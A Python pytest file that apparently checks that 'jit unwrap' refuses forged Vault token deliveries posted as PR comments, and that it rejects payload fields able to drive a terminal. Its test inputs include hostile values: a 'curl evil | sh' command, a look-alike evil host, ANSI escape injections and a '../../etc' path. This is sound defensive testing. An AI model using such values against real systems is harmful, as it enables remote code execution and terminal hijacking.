"""``jit unwrap`` does not trust what a delivery says about where to send its token.

Anyone who can comment on the PR can post a "delivery" encrypted to the requester's public SSH
keys (they are public), naming a Vault address of their choosing. ``jit unwrap`` must check that
address against the one the requester knows (``--vault-addr`` or ``VAULT_ADDR``) before it sends
anything anywhere, and refuse payload fields that could drive the terminal.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import responses

from jit.commands.unwrap import run
from jit.delivery import (
    DeliveryError,
    DeliveryPayload,
    choose_delivery,
    render_plain_token_comment,
)
from tests.delivery.helpers import (
    ENDS,
    GRANT,
    SECRET,
    KeyPair,
    comment,
    jit,
    wrapped_credentials,
    write_access_repo,
)
from tests.fakes.vault import FakeVault

ORG_VAULT = "https://vault.example.com:8200"


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("VAULT_ADDR", raising=False)
    monkeypatch.delenv("VAULT_NAMESPACE", raising=False)
    # A clone of the access repository whose settings name no Vault address.
    monkeypatch.chdir(write_access_repo(tmp_path / "access", "vault: {token_role: jit}\n"))
    return home


def test_a_forged_delivery_naming_another_vault_is_refused_before_any_request(
    fake_vault: FakeVault,
    vault_rsps: responses.RequestsMock,
    ed_key: KeyPair,
    home: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # The attacker runs their own "Vault" (here: the fake) and encrypts a token for it to the
    # requester's public key; the requester's organisation uses ORG_VAULT.
    ed_key.write(home / ".ssh" / "id_ed25519")
    forged = comment(fake_vault, wrapped_credentials(fake_vault), ed_key)
    before = len(vault_rsps.calls)
    monkeypatch.setenv("VAULT_ADDR", ORG_VAULT)
    assert jit(forged) == 1
    out, err = capsys.readouterr()
    assert out == "" and SECRET not in err
    assert f"names the Vault at {fake_vault.address!r}" in err
    assert "anyone can post a comment" in err
    assert len(vault_rsps.calls) == before  # nothing was sent to the other address
    assert jit("--vault-addr", ORG_VAULT, forged) == 1
    assert "names the Vault at" in capsys.readouterr().err


def test_without_a_known_vault_address_nothing_is_sent(
    fake_vault: FakeVault,
    vault_rsps: responses.RequestsMock,
    ed_key: KeyPair,
    home: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    ed_key.write(home / ".ssh" / "id_ed25519")
    text = comment(fake_vault, wrapped_credentials(fake_vault), ed_key)
    before = len(vault_rsps.calls)
    assert jit(text) == 1
    out, err = capsys.readouterr()
    assert out == ""
    assert "set VAULT_ADDR or pass --vault-addr" in err
    assert len(vault_rsps.calls) == before
    # The token was not spent: with the address pinned it unwraps.
    assert jit("--vault-addr", fake_vault.address, text) == 0
    assert json.loads(capsys.readouterr().out)["password"] == SECRET


@pytest.mark.parametrize("spelling", ["{}", "{}/", "{}//", "HTTPS://VAULT.FAKE:8200"])
def test_the_same_vault_spelt_differently_is_accepted(
    fake_vault: FakeVault,
    ed_key: KeyPair,
    home: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    spelling: str,
) -> None:
    ed_key.write(home / ".ssh" / "id_ed25519")
    monkeypatch.setenv("VAULT_ADDR", spelling.format(fake_vault.address))
    assert jit(comment(fake_vault, wrapped_credentials(fake_vault), ed_key)) == 0
    assert json.loads(capsys.readouterr().out)["password"] == SECRET


@pytest.mark.parametrize(
    "named",
    [
        "http://vault.fake:8200",  # same host, no TLS
        "https://vault.fake:8201",  # another port
        "https://vault.fake:8200/proxy/other",  # another path on the same host
        "https://user@vault.fake:8200",  # credentials in the URL
        "https://vault.fake.evil.example:8200",
        "https://vault.fake:99999",  # no valid URL
    ],
)
def test_a_plain_token_delivery_for_another_address_is_refused(
    fake_vault: FakeVault, vault_rsps: responses.RequestsMock, home: Path, named: str
) -> None:
    payload = DeliveryPayload(named, None, "hvs.attacker", GRANT, ENDS.isoformat())
    text = render_plain_token_comment(
        grant_id=GRANT,
        requester="alice",
        resource="db",
        expires_at=ENDS,
        unwrap_by=None,
        payload=payload,
        plan=choose_delivery([], "wrapping-token"),
    )
    with pytest.raises(DeliveryError, match="names the Vault at"):
        run(None, None, "json", text, vault_addr=fake_vault.address)
    assert not vault_rsps.calls


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("grant_id", "alice-x-3f2a9c1b\x1b]0;pwned\x07"),
        ("grant_id", "alice\nfrom https://vault.example.com"),
        ("grant_id", "../../etc"),
        ("expires_at", "2026-03-02T11:00:00Z\x1b[2K\rAccess ends never"),
        ("expires_at", "soon"),
        ("vault_addr", "https://vault.example.com\x1b[8m"),
        ("vault_addr", "https://vault.example.com/\u202e"),
        ("vault_namespace", "admin\x1b[31m"),
    ],
)
def test_payload_fields_that_could_drive_a_terminal_are_refused(field: str, value: str) -> None:
    fields = {
        "vault_addr": ORG_VAULT,
        "vault_namespace": "admin/team",
        "wrap_token": "hvs.w",
        "grant_id": GRANT,
        "expires_at": ENDS.isoformat(),
        field: value,
    }
    with pytest.raises(DeliveryError, match="payload"):
        DeliveryPayload.from_json(json.dumps(fields))


def test_a_well_formed_payload_still_reads() -> None:
    fields = {
        "vault_addr": ORG_VAULT,
        "vault_namespace": None,
        "wrap_token": "hvs.w",
        "grant_id": GRANT,
        "expires_at": "2026-03-02T11:00:00Z",
    }
    payload = DeliveryPayload.from_json(json.dumps(fields))
    assert (payload.grant_id, payload.expires_at) == (GRANT, "2026-03-02T11:00:00Z")


def test_a_payload_with_fields_jit_never_writes_is_refused() -> None:
    fields = {
        "vault_addr": ORG_VAULT,
        "vault_namespace": None,
        "wrap_token": "hvs.w",
        "grant_id": GRANT,
        "expires_at": "2026-03-02T11:00:00Z",
        "PROMPT_COMMAND": "curl evil | sh",
    }
    with pytest.raises(DeliveryError, match="fields jit never writes \\('PROMPT_COMMAND'\\)"):
        DeliveryPayload.from_json(json.dumps(fields))
